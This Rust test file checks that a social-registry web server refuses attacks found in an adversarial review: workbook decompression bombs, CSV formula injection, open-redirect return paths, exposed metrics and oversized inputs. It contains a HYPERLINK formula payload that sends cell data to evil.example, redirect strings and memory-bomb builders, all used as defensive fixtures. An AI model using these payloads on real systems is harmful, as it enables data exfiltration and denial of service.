//! The attacks of the adversarial review (issue 35), each reproduced against the real server
//! over HTTP and refused: one test per attack, named after it, readable top to bottom.
//!
//! Decompression bombs: a token that may send counter-referrals posts workbooks built to fill
//! the server's memory — five million cells naming one shared string in a file of kilobytes,
//! five million distinct shared strings, a sheet of a million honest-looking rows. Each is
//! refused with a Spanish message naming the file and the limit, and the server's resident
//! memory (its peak included, read from `/proc`) stays within a bound while it reads them.
//! The workbooks are built by `vamos_ingest::fuzzing`; the ingest crate's `bombs` tests try
//! every limit on its own.
//!
//! CSV formula injection: a name, a rejected value or an audit purpose such as
//! `=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")` reaches the CSV files other people
//! open in a spreadsheet (the referral list, the rejection report, the audit export). Each is
//! written with an apostrophe in front, so the spreadsheet shows it as text; numbers stay numbers
//! (`vamos_domain::csv_safe` tries every dangerous first character on its own).
//!
//! The web's edges (item 12, and item 8's open redirect): a return path after login that a
//! browser would follow to another site, HSTS that depended on a flag, readiness and metrics
//! (the registry's size) open to anyone, a health check naming the version, request-parsing
//! errors in English plain text, and a DCI expression too large for the database's SQL.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]

use serde_json::Value;
use std::io::Write;
use std::path::Path;

mod common;
use common::*;

/// A field of the server's `/proc/<pid>/status`, in kB (`VmRSS`, `VmHWM`).
fn memory_kb(pid: u32, field: &str) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|l| {
            l.strip_prefix(field)?
                .trim_start_matches(':')
                .split_whitespace()
                .next()
        })
        .unwrap()
        .parse()
        .unwrap()
}

/// Posts a file to `/api/counter-referrals/file` as a workbook.
fn post_workbook(s: &Server, token: &str, body: &[u8]) -> (u16, Value) {
    let resp = agent()
        .post(format!("{}/api/counter-referrals/file", s.base))
        .header("authorization", format!("Bearer {token}"))
        .header(
            "content-type",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
        .send(body)
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.into_body().read_to_string().unwrap_or_default();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

/// A registry with an MSPBS operator of Villeta, and its token that may send counter-referrals.
fn operator_token(url: &str, d: &Path) -> String {
    init_db(url, d);
    let o = vamos(
        &[
            "user",
            "create",
            "--db",
            url,
            "hospital",
            "--role",
            "operador",
            "--institution",
            "MSPBS",
            "--territories",
            "1116",
        ],
        d,
        &[("VAMOS_PASSWORD", PW)],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let o = vamos(
        &[
            "token",
            "create",
            "--db",
            url,
            "--user",
            "hospital",
            "--name",
            "his",
            "--days",
            "1",
            "--scopes",
            "contrarreferencias:enviar",
        ],
        d,
        &[],
    );
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8_lossy(&o.stdout).trim().to_string()
}

/// The header row of a counter-referral sheet, as inline strings.
const HEADER: &[u8] = br#"<row r="1"><c r="A1" t="inlineStr"><is><t>id_evento</t></is></c><c r="B1" t="inlineStr"><is><t>cedula</t></is></c><c r="C1" t="inlineStr"><is><t>servicio</t></is></c><c r="D1" t="inlineStr"><is><t>fecha_entrega</t></is></c></row>"#;

/// The three bombs, each with what its refusal must say.
fn bombs(dir: &Path) -> Vec<(&'static str, Vec<u8>, &'static str)> {
    use vamos_ingest::fuzzing::{write_xlsx, PartWriter};
    let build = |name: &str, sheet: PartWriter<'_>, shared: PartWriter<'_>| {
        let path = dir.join(name);
        write_xlsx(&path, sheet, Some(shared)).unwrap();
        std::fs::read(path).unwrap()
    };
    let one_string = build(
        "una_cadena.xlsx",
        &mut |w| {
            let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
            b.write_all(HEADER)?;
            let row = br#"<row><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c><c t="s"><v>0</v></c></row>"#;
            for _ in 0..1_000_000 {
                b.write_all(row)?;
            }
            b.flush()
        },
        &mut |w| w.write_all(b"<si><t>1234567</t></si>"),
    );
    let strings = build("cadenas.xlsx", &mut |w| w.write_all(HEADER), &mut |w| {
        let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
        for i in 0..5_000_000u32 {
            write!(b, "<si><t>{i:07}</t></si>")?;
        }
        b.flush()
    });
    let rows = build(
        "filas.xlsx",
        &mut |w| {
            let mut b = std::io::BufWriter::with_capacity(1 << 20, w);
            b.write_all(HEADER)?;
            for r in 2..=1_000_001u32 {
                write!(
                    b,
                    r#"<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}" t="s"><v>0</v></c><c r="C{r}" t="s"><v>1</v></c><c r="D{r}" t="s"><v>2</v></c></row>"#
                )?;
            }
            b.flush()
        },
        &mut |w| {
            w.write_all(b"<si><t>1234567</t></si><si><t>control_prenatal</t></si><si><t>2026-11-20</t></si>")
        },
    );
    vec![
        (
            "cinco millones de celdas de una cadena",
            one_string,
            "más de 100 a 1",
        ),
        (
            "cinco millones de cadenas",
            strings,
            "más de 2000000 textos distintos",
        ),
        ("un millón de filas", rows, "más de 200001 filas"),
    ]
}

#[test]
fn a_workbook_bomb_posted_as_counter_referrals_is_refused_within_bounded_memory() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let token = operator_token(&db.url, d.path());
    let bombs = bombs(d.path());
    // What is tested is the refusal and the memory, not the request timeout: a debug build on a
    // loaded machine reads a million rows slowly.
    let s = common::start_with(&db.url, d.path(), &[("VAMOS_REQUEST_TIMEOUT_SECS", "600")]);
    let pid = s.child.id();
    let before = memory_kb(pid, "VmRSS");
    for (what, body, reason) in &bombs {
        let (status, v) = post_workbook(&s, &token, body);
        let message = v["error"]["message"].as_str().unwrap_or_default();
        assert_eq!(status, 400, "{what}: {v}");
        assert!(
            message.contains("«contrarreferencias.xlsx") && message.contains(reason),
            "{what}: {message}"
        );
        let (now, peak) = (memory_kb(pid, "VmRSS"), memory_kb(pid, "VmHWM"));
        eprintln!(
            "{what} ({} bytes): resident {before} kB before, {now} kB after, peak {peak} kB",
            body.len()
        );
        assert!(
            peak.saturating_sub(before) < 300 * 1024,
            "{what}: the server's memory grew from {before} kB to a peak of {peak} kB"
        );
    }
    // The server still answers.
    let (status, _, _) = call(&s, &Who::default(), "get", "/api/health", None);
    assert_eq!(status, 200);
}

/// A cell that a spreadsheet runs as a formula, sending the neighbouring cell away.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"Ver ficha")"#;

/// `cell` as the CSV writer quotes it (the formula's quotes doubled), with the apostrophe.
fn neutralised(cell: &str) -> String {
    format!("\"'{}\"", cell.replace('"', "\"\""))
}

#[test]
fn a_formula_in_a_name_is_neutralised_in_the_referral_csv() {
    let row = serde_json::json!({
        "id": 7,
        "priority": -5,
        "district_code": "1116",
        "person": {"given_names": HYPERLINK, "family_names": "@SUM(1+1)"},
    });
    let csv = vamos_app::referrals::report_csv(&[row]).unwrap();
    let csv = String::from_utf8(csv).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains(",'@SUM(1+1)"), "{csv}");
    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
    // Numbers stay numbers, negative ones included.
    assert!(csv.contains("\n7,,-5,"), "{csv}");
}

#[test]
fn a_formula_in_a_purpose_is_neutralised_in_the_audit_export() {
    let row = vamos_store::audit::AuditRow {
        id: 1,
        at: "2025-01-01T00:00:00Z".into(),
        actor: "ana".into(),
        role: Some("operador".into()),
        institution: Some("MSPBS".into()),
        action: "leer persona".into(),
        subject_kind: "persona".into(),
        subject_id: "-12".into(),
        purpose: HYPERLINK.into(),
        request_id: None,
        outcome: "+ok".into(),
        prev_hash: None,
        hash: None,
    };
    let csv = vamos_app::audit::audit_csv(&[row]).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains("\"'+ok\""), "{csv}");
    assert!(csv.contains("\"-12\""), "{csv}");
}

#[test]
fn a_formula_in_a_rejected_value_is_neutralised_in_the_rejection_report() {
    let d = tempfile::tempdir().unwrap();
    let path = d.path().join("rechazos.csv");
    let mut log = vamos_ingest::report::RejectionLog::new(Some(&path)).unwrap();
    log.reject_row(vec![vamos_ingest::report::Rejection {
        file: "hogares.csv".into(),
        row: 2,
        column: "cedula".into(),
        value: HYPERLINK.into(),
        reason: "-cédula inválida".into(),
        key: "\t=1+2".into(),
    }])
    .unwrap();
    log.finish().unwrap();
    let csv = std::fs::read_to_string(&path).unwrap();
    assert!(csv.contains(&neutralised(HYPERLINK)), "{csv}");
    assert!(csv.contains(",'-cédula inválida,"), "{csv}");
    assert!(csv.contains(",'\t=1+2\n"), "{csv}");
    assert!(csv.contains("hogares.csv,2,cedula,"), "{csv}");
}

/// An agent that reports redirects instead of following them.
fn no_redirects() -> ureq::Agent {
    ureq::Agent::config_builder()
        .http_status_as_error(false)
        .max_redirects(0)
        .build()
        .into()
}

/// The value of the hidden field `name` of a form.
fn hidden(body: &str, name: &str) -> String {
    let marker = format!("name=\"{name}\" value=\"");
    let i = body
        .find(&marker)
        .unwrap_or_else(|| panic!("no {name} in {body}"))
        + marker.len();
    body[i..]
        .split('"')
        .next()
        .unwrap()
        .replace("&#x2f;", "/")
        .replace("&amp;", "&")
}

#[test]
fn a_login_return_path_cannot_leave_the_site() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let a = no_redirects();
    for (query, posted) in [
        ("/%09/evil.example/x", "/\t/evil.example/x"),
        ("//evil.example/x", "//evil.example/x"),
        ("/%5Cevil.example/x", "/\\evil.example/x"),
        ("https://evil.example/", "https://evil.example/"),
        ("/%0A/evil.example", "/\n/evil.example"),
    ] {
        let resp = a
            .get(format!("{}/ingresar?volver={query}", s.base))
            .call()
            .unwrap();
        let cookie = resp
            .headers()
            .get_all("set-cookie")
            .iter()
            .filter_map(|v| v.to_str().ok())
            .find(|c| c.starts_with("vamos_ingreso="))
            .and_then(|c| c.split(';').next())
            .unwrap()
            .to_string();
        let page = resp.into_body().read_to_string().unwrap();
        assert_eq!(hidden(&page, "volver"), "/", "{query}");
        let resp = a
            .post(format!("{}/ingresar", s.base))
            .header("cookie", &cookie)
            .send_form([
                ("usuario", "admin"),
                ("clave", PW),
                ("token", hidden(&page, "token").as_str()),
                ("volver", posted),
            ])
            .unwrap();
        assert_eq!(resp.status().as_u16(), 303, "{posted:?}");
        assert_eq!(resp.headers()["location"], "/", "{posted:?}");
    }
}

#[test]
fn hsts_is_sent_when_the_public_url_is_https() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let hsts = |public_url: &str| {
        let s = start_with(&db.url, d.path(), &[("VAMOS_PUBLIC_URL", public_url)]);
        let resp = agent()
            .get(format!("{}/api/health", s.base))
            .call()
            .unwrap();
        resp.headers()
            .get("strict-transport-security")
            .map(|v| v.to_str().unwrap().to_string())
    };
    assert_eq!(
        hsts("https://vamos.gov.py").as_deref(),
        Some("max-age=31536000; includeSubDomains")
    );
    assert_eq!(hsts("http://127.0.0.1:8080"), None);
}

#[test]
fn metrics_and_readiness_need_a_monitoring_token() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let other = operator_token(&db.url, d.path());
    let monitor = monitoring(&db.url, d.path(), "prometheus");
    let s = start(&db.url, d.path());
    let operator = Who {
        bearer: Some(other),
        ..Who::default()
    };
    for path in ["/api/ready", "/metrics"] {
        let (st, v, _) = call(&s, &Who::default(), "get", path, None);
        assert_eq!(st, 401, "{path}: {v}");
        assert_eq!(v["error"]["code"], "no_autenticado", "{path}");
        let (st, v, _) = call(&s, &operator, "get", path, None);
        assert_eq!(st, 403, "{path}: {v}");
        let (st, v, _) = call(&s, &monitor, "get", path, None);
        assert_eq!(st, 200, "{path}: {v}");
    }
    let (_, ready, _) = call(&s, &monitor, "get", "/api/ready", None);
    assert_eq!(ready["version"], env!("CARGO_PKG_VERSION"), "{ready}");
}

#[test]
fn health_does_not_reveal_the_version() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let (st, v, _) = call(&s, &Who::default(), "get", "/api/health", None);
    assert_eq!((st, v), (200, serde_json::json!({"status": "ok"})));
}

/// Posts `body` to `path` with `content_type`, answering status, content type and body.
fn post_raw(s: &Server, path: &str, content_type: &str, body: &str) -> (u16, String, Value) {
    let resp = agent()
        .post(format!("{}{path}", s.base))
        .header("content-type", content_type)
        .send(body)
        .unwrap();
    let status = resp.status().as_u16();
    let ct = resp.headers()["content-type"].to_str().unwrap().to_string();
    let text = resp.into_body().read_to_string().unwrap();
    (
        status,
        ct,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

#[test]
fn a_malformed_json_body_gets_the_spanish_json_error() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    for (content_type, body, status, message) in [
        (
            "application/json",
            r#"{"username": "admin""#,
            400,
            "el cuerpo no es JSON válido: el JSON termina antes de tiempo (línea 1, columna 20)",
        ),
        (
            "application/json",
            r#"{"username": "admin"}"#,
            422,
            "el cuerpo no tiene la forma esperada: falta el campo «password» (línea 1, columna 21)",
        ),
        (
            "text/plain",
            r#"{"username": "admin", "password": "x"}"#,
            415,
            "el cuerpo debe ser JSON: envíe la cabecera «Content-Type: application/json»",
        ),
    ] {
        let (st, ct, v) = post_raw(&s, "/api/session", content_type, body);
        assert_eq!(st, status, "{body}: {v}");
        assert_eq!(ct, "application/json", "{body}");
        assert_eq!(v["error"]["code"], "solicitud_invalida", "{body}");
        assert_eq!(v["error"]["message"], message, "{body}");
    }
    let admin = login(&s, "admin", PW);
    let (st, v, _) = call(&s, &admin, "get", "/api/persons?limit=muchos", None);
    assert_eq!(st, 400, "{v}");
    assert_eq!(
        v["error"]["message"],
        "parámetros de consulta inválidos: el campo «limit» tiene un valor inválido"
    );
    let (st, v, _) = call(&s, &admin, "get", "/api/persons/uno", None);
    assert_eq!(
        (st, &v["error"]["message"]),
        (400, &serde_json::json!("la ruta tiene un valor inválido"))
    );
}

#[test]
fn an_oversized_dci_expression_gets_a_dci_error() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let url = db.url.as_str();
    init_db(url, d.path());
    let run = |args: &[&str]| {
        let o = vamos(args, d.path(), &[("VAMOS_PASSWORD", PW)]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).trim().to_string()
    };
    run(&["user", "create", "--db", url, "his", "--role", "analista"]);
    let token = run(&[
        "token", "create", "--db", url, "--user", "his", "--name", "HIS", "--scopes", "dci",
    ]);
    run(&[
        "dci",
        "sender",
        "add",
        "--db",
        url,
        "--id",
        "his.mspbs",
        "--user",
        "his",
    ]);
    let s = start(url, d.path());
    let his = Who {
        bearer: Some(token),
        ..Who::default()
    };
    // Five thousand alternatives (about 100 KB): more than the SQL of a search may hold.
    let search = |n: usize, id: &str| {
        let any: Vec<Value> = (0..n).map(|i| serde_json::json!({"UIN": i})).collect();
        serde_json::json!({
            "header": {"version": "1.0.0", "message_id": id, "message_ts": "2026-11-23T10:00:00-03:00",
                "action": "search", "sender_id": "his.mspbs", "receiver_id": "siis.gov.py",
                "total_count": 1, "is_msg_encrypted": false},
            "message": {"transaction_id": "t-1", "search_request": [{
                "reference_id": "r1", "timestamp": "2026-11-23T10:00:00-03:00",
                "search_criteria": {"reg_type": "ns:org:RegistryType:Social",
                    "query_type": "expression", "query": {"$or": any},
                    "consent": {"purpose": {"text": "prueba"}}}}]}
        })
    };
    let (st, v, _) = call(
        &s,
        &his,
        "post",
        "/dci/registry/sync/search",
        Some(search(5000, "m-1")),
    );
    assert_eq!(st, 200, "{v}");
    let item = &v["message"]["search_response"][0];
    assert_eq!(item["status"], "rjct", "{item}");
    assert_eq!(item["status_reason_code"], "rjct.filter.invalid", "{item}");
    assert!(
        item["status_reason_message"]
            .as_str()
            .unwrap()
            .contains("consulta demasiado grande"),
        "{item}"
    );
    // The largest admitted is answered.
    let (st, v, _) = call(
        &s,
        &his,
        "post",
        "/dci/registry/sync/search",
        Some(search(500, "m-2")),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["message"]["search_response"][0]["status"], "succ", "{v}");
}

// ---------------------------------------------------------------------------------------------
// Unbounded fields (item 9) and exports that account for every referral (item 10).
//
// A 10 MB name, address or place of delivery used to be stored and carried into every page and
// export, and an error repeated a 20 MB header line whole. Every entry point now refuses a text
// longer than its limit (`vamos_domain::limits`: names 100 characters, addresses and places
// 200, free text 2,000, codes and keys 100) with the usual row report or JSON error, and every
// error that repeats a value cuts it at 200 characters with `…`. An export's audit record names
// every referral that left: their count, a SHA-256 over their sorted ids, and the filter.

/// The characters of `s` (the limits count characters, not bytes).
fn chars(s: &str) -> usize {
    s.chars().count()
}

/// A value cut as an error repeats it: 200 characters (`vamos_domain::limits::ECHO`) and `…`.
fn is_cut(value: &str) -> bool {
    chars(value) == 200 + 1 && value.ends_with('…')
}

#[test]
fn a_ten_megabyte_name_is_refused_with_a_row_report() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    synth_pilots(d, "30", "35");
    // The first member's given names become four million characters: the longest cell a CSV
    // row carries (a record over 4 MiB, such as a 10 MB name, refuses the whole file before
    // any row is read — the bound against bombs, `vamos_ingest::bounded`).
    let members = d.join("datos/fips-miembros.csv");
    let text = std::fs::read_to_string(&members).unwrap();
    let (header, rest) = text.split_once('\n').unwrap();
    let (first_name, row) = rest.split_once(',').unwrap();
    assert!(!first_name.is_empty() && !first_name.starts_with('"'));
    let huge = format!("Ana{}", "a".repeat(4_000_000));
    std::fs::write(&members, format!("{header}\n{huge},{row}")).unwrap();
    for db in vamos_store::testing::all_dbs() {
        let url = db.url.as_str();
        init_db(url, d);
        let rejects = d.join(format!("rechazos-{}.csv", db.label));
        let o = vamos(
            &[
                "import",
                "fips",
                "--db",
                url,
                "datos",
                "--date",
                "2026-11-23",
                "--rejects",
                rejects.to_str().unwrap(),
                "--format",
                "json",
            ],
            d,
            &[],
        );
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let summary: Value =
            serde_json::from_str(String::from_utf8_lossy(&o.stdout).lines().last().unwrap())
                .unwrap();
        assert_eq!(summary["persons_rejected"], 1, "{}: {summary}", db.label);
        assert!(summary["persons_accepted"].as_u64().unwrap() > 0);
        // The report names file, row, column, the value cut at 200 characters and why.
        let report = std::fs::read_to_string(&rejects).unwrap();
        assert!(
            report.len() < 10_000,
            "{}: {} bytes",
            db.label,
            report.len()
        );
        let mut r = csv::Reader::from_reader(report.trim_start_matches('\u{feff}').as_bytes());
        let line = r
            .records()
            .map(Result::unwrap)
            .find(|l| &l[2] == "miembros-nombres")
            .unwrap_or_else(|| panic!("{}: {report}", db.label));
        assert_eq!(&line[0], "fips-miembros.csv");
        assert_eq!(&line[1], "2");
        assert!(
            is_cut(&line[3]) && line[3].starts_with("Anaaa"),
            "{}",
            &line[3]
        );
        assert_eq!(
            &line[4],
            "texto demasiado largo: 4000003 caracteres; un nombre admite a lo sumo 100"
        );
    }
}

/// Posts `body` to `path` with a bearer token and `content_type`; status and JSON answer.
fn post_as(s: &Server, token: &str, path: &str, content_type: &str, body: &[u8]) -> (u16, Value) {
    let resp = agent()
        .post(format!("{}{path}", s.base))
        .header("authorization", format!("Bearer {token}"))
        .header("content-type", content_type)
        .send(body)
        .unwrap();
    let status = resp.status().as_u16();
    let text = resp.into_body().read_to_string().unwrap();
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

#[test]
fn an_oversize_delivery_place_is_refused() {
    for db in vamos_store::testing::all_dbs() {
        let d = tempfile::tempdir().unwrap();
        let token = operator_token(&db.url, d.path());
        let s = start(&db.url, d.path());
        let place = "x".repeat(10_000_000);
        let event = serde_json::json!({"event_id": "E-1", "cedula": "1234567",
            "service": "control_prenatal", "delivered_on": "2026-11-20", "place": place});
        let batch = serde_json::to_vec(&serde_json::json!({ "events": [event] })).unwrap();
        // A file's row is read up to 4 MiB (`vamos_ingest::bounded`): three million there.
        let file = format!(
            "id_evento,cedula,servicio,fecha_entrega,lugar\nE-1,1234567,control_prenatal,2026-11-20,{}\n",
            &place[..3_000_000]
        );
        for (path, content_type, body, length) in [
            (
                "/api/counter-referrals/batch",
                "application/json",
                batch,
                "10000000",
            ),
            (
                "/api/counter-referrals/file",
                "text/csv",
                file.into_bytes(),
                "3000000",
            ),
        ] {
            let (st, v) = post_as(&s, &token, path, content_type, &body);
            assert_eq!(st, 200, "{}: {path}", db.label);
            assert_eq!(
                (v["accepted"].as_u64(), v["rejected"].as_u64()),
                (Some(0), Some(1))
            );
            let errors = v["errors"].as_array().unwrap();
            assert_eq!(errors.len(), 1, "{}: {path}: {errors:?}", db.label);
            let e = &errors[0];
            assert_eq!(e["column"], "lugar", "{path}");
            assert_eq!(
                e["reason"],
                format!("texto demasiado largo: {length} caracteres; una dirección o un lugar admite a lo sumo 200")
            );
            assert!(is_cut(e["value"].as_str().unwrap()), "{path}");
        }
        // The largest place admitted passes this check (the event then names nobody here).
        let event = serde_json::json!({"event_id": "E-2", "cedula": "1234567",
            "service": "control_prenatal", "delivered_on": "2026-11-20", "place": "x".repeat(200)});
        let (_, v) = post_as(
            &s,
            &token,
            "/api/counter-referrals/batch",
            "application/json",
            &serde_json::to_vec(&serde_json::json!([event])).unwrap(),
        );
        assert_ne!(v["errors"][0]["column"], "lugar", "{}: {v}", db.label);
    }
}

#[test]
fn a_huge_header_line_is_not_echoed() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    let token = operator_token(&db.url, d.path());
    let s = start(&db.url, d.path());
    // Three million characters: a line over 4 MiB is refused as a record too long, unread.
    let body = format!("id_evento,{}\nE-1,x\n", "y".repeat(3_000_000));
    let (st, v) = post_as(
        &s,
        &token,
        "/api/counter-referrals/file",
        "text/csv",
        body.as_bytes(),
    );
    assert_eq!(st, 400, "{v}");
    let message = v["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("faltan columnas obligatorias"),
        "{message}"
    );
    assert!(
        message.contains("id_evento, yyyy") && message.ends_with("…)"),
        "{message}"
    );
    assert!(chars(message) < 400, "{} characters", chars(message));
    // A JSON field name is the sender's too.
    let batch = format!(
        r#"[{{"event_id": "E-1", "{}": 1}}]"#,
        "z".repeat(20_000_000)
    );
    let (st, v) = post_as(
        &s,
        &token,
        "/api/counter-referrals/batch",
        "application/json",
        batch.as_bytes(),
    );
    assert_eq!(st, 400, "{v}");
    let message = v["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("evento 1") && message.contains('…'),
        "{message}"
    );
    assert!(chars(message) < 400, "{} characters", chars(message));
}

#[test]
fn a_long_query_parameter_is_not_echoed() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let admin = login(&s, "admin", PW);
    let territory = "9".repeat(5_000);
    let (st, v, _) = call(
        &s,
        &admin,
        "get",
        &format!("/api/persons?q=Ana&territory={territory}"),
        None,
    );
    assert_eq!(st, 400, "{v}");
    let message = v["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("mal formado «9999") && message.contains("…»"),
        "{message}"
    );
    assert!(chars(message) < 400, "{} characters", chars(message));
}

#[test]
fn oversize_free_text_is_refused_in_the_api() {
    let db = vamos_store::testing::sqlite_db();
    let d = tempfile::tempdir().unwrap();
    init_db(&db.url, d.path());
    let s = start(&db.url, d.path());
    let admin = login(&s, "admin", PW);
    let reject = |reason: String| {
        call(
            &s,
            &admin,
            "post",
            "/api/referrals/1/status",
            Some(serde_json::json!({"status": "rechazada", "reason": reason})),
        )
    };
    let (st, v, _) = reject("x".repeat(2_001));
    assert_eq!(st, 400, "{v}");
    assert_eq!(
        v["error"]["message"],
        "motivo: texto demasiado largo: 2001 caracteres; un texto libre admite a lo sumo 2000"
    );
    // Two thousand characters are free text enough: the referral is then looked for.
    let (st, v, _) = reject("ñ".repeat(2_000));
    assert_eq!(st, 404, "{v}");
}

/// The referrals of an export (the first column of its CSV), as the digest of its audit record
/// takes them: ascending, each in decimal followed by a line feed.
fn exported_ids(csv_text: &str) -> (usize, String) {
    let mut r = csv::Reader::from_reader(csv_text.trim_start_matches('\u{feff}').as_bytes());
    let mut ids: Vec<i64> = r
        .records()
        .map(|l| l.unwrap()[0].parse().unwrap())
        .collect();
    ids.sort_unstable();
    let lines: String = ids.iter().map(|i| format!("{i}\n")).collect();
    (ids.len(), vamos_store::audit::sha256_hex(&lines))
}

#[test]
fn an_export_audit_record_accounts_for_every_referral() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    synth_pilots(d, "300", "36");
    for db in vamos_store::testing::all_dbs() {
        let url = db.url.as_str();
        init_db(url, d);
        for args in [
            &[
                "import",
                "fips",
                "--db",
                url,
                "datos",
                "--date",
                "2026-11-23",
            ][..],
            &["classify", "--db", url, "--as-of", "2026-11-23"],
            &["referrals", "generate", "--db", url],
        ] {
            let o = vamos(args, d, &[]);
            assert!(
                o.status.success(),
                "{args:?}: {}",
                String::from_utf8_lossy(&o.stderr)
            );
        }
        let out = d.join(format!("mspbs-{}.csv", db.label));
        let o = vamos(
            &[
                "referrals",
                "export",
                "--db",
                url,
                "--institution",
                "MSPBS",
                "--status",
                "abierta",
                "--out",
                out.to_str().unwrap(),
            ],
            d,
            &[],
        );
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let (count, digest) = exported_ids(&std::fs::read_to_string(&out).unwrap());
        assert!(count > 50, "{}: only {count} referrals", db.label);
        let trail = d.join(format!("auditoria-{}.csv", db.label));
        let o = vamos(
            &[
                "audit",
                "export",
                "--db",
                url,
                "--out",
                trail.to_str().unwrap(),
            ],
            d,
            &[],
        );
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        let trail = std::fs::read_to_string(&trail).unwrap();
        let mut r = csv::Reader::from_reader(trail.trim_start_matches('\u{feff}').as_bytes());
        let headers = r.headers().unwrap().clone();
        let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
        let (action, subject, outcome) = (col("accion"), col("sujeto"), col("resultado"));
        let record = r
            .records()
            .map(Result::unwrap)
            .find(|l| &l[action] == "exportar referencias")
            .unwrap_or_else(|| panic!("{}: {trail}", db.label));
        assert_eq!(
            &record[subject],
            format!("{count} referencias, sha256:{digest}"),
            "{}",
            db.label
        );
        assert!(
            record[outcome].contains("filtro: institucion=MSPBS estado=abierta"),
            "{}",
            &record[outcome]
        );
    }
}
